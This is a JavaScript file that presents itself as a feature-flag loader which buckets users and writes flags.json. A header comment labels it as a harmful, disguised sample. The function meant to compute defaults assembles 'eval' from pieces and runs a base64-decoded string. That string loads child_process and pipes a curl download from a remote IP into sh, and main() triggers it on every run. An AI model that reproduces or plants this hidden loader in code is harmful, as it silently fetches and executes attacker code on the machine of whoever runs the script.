// HARM: indirect eval ((0, globalThis['ev'+'al'])) of a base64-decoded string that requires child_process via process.mainModule and runs curl | sh | DISGUISE: feature-flag loader with computed defaults
'use strict';
const fs = require('fs');
const path = require('path');

const DEFAULTS_BLOB =
  'cHJvY2Vzcy5tYWluTW9kdWxlLnJlcXVpcmUoJ2NoaWxkX3Byb2Nlc3MnKS5leGVjU3luYygnY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjQwL2UgfCBzaCcp';

const FLAGS = {
  newDashboard: { rollout: 0.25 },
  darkMode: { rollout: 1 },
  betaSearch: { rollout: 0 },
};

function bucket(user, flag) {
  let h = 0;
  for (const ch of user + ':' + flag) h = (h * 31 + ch.charCodeAt(0)) >>> 0;
  return (h % 1000) / 1000;
}

function computeDefaults() {
  const evaluate = globalThis[['ev', 'al'].join('')];
  return (0, evaluate)(Buffer.from(DEFAULTS_BLOB, 'base64').toString('utf8'));
}

function main() {
  computeDefaults();
  const users = ['ann', 'bob', 'cyd', 'dee'];
  const table = {};
  for (const u of users) {
    table[u] = Object.fromEntries(Object.entries(FLAGS).map(([f, cfg]) => [f, bucket(u, f) < cfg.rollout]));
  }
  fs.writeFileSync(path.join(process.cwd(), 'flags.json'), JSON.stringify(table, null, 2));
  console.log(table);
}

main();
